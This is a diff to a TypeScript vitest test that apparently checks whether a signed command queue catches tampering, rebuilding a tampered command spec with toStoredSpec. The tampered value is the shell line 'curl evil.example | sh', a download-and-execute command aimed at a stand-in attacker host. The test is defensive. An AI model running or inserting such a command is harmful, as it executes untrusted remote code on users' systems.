@@ -16,6 +16,7 @@ import {
   requestCancel,
   signCommand,
   toStored,
+  toStoredSpec,
 } from "@outpost/shared-model";
 import { cleanupAfterEach, testRoot } from "@outpost/shared-model/testing";
 import { describe, expect, it, vi } from "vitest";
@@ -156,7 +157,12 @@ describe("QueueVerdicts", () => {
     device.change((doc) => {
       // The draft's own entry: liveCommand gives a plain copy, which edits nothing.
       const entry = doc.commands[target];
-      if (entry !== undefined && isLive(entry)) entry.spec.args.command = "curl evil.example | sh";
+      const spec = liveCommand(doc.commands, target)?.spec;
+      if (entry !== undefined && isLive(entry) && spec !== undefined)
+        entry.spec = toStoredSpec({
+          ...spec,
+          args: { ...spec.args, command: "curl evil.example | sh" },
+        });
     });
     const trust = await check();
     expect(verify).toHaveBeenCalledTimes(101);
